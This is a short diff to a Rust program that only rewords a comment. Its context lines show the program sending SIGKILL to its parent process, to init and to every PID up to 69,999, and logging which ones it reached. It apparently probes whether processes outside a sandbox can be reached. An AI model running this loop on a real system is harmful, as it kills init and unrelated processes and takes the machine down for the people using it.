@@ -5,7 +5,7 @@ fn main() {
     let own = std::process::id() as i32;
     let mut reached = Vec::new();
     for process in [unsafe { getppid() }, 1].into_iter().chain(2..70_000) {
-        // Whoever ends with its parent or the init has reached them.
+        // A process that ends with its parent or the init has reached them.
         if process != own && unsafe { kill(process, 9) } == 0 && process > 1 {
             reached.push(format!("process {process}"));
         }
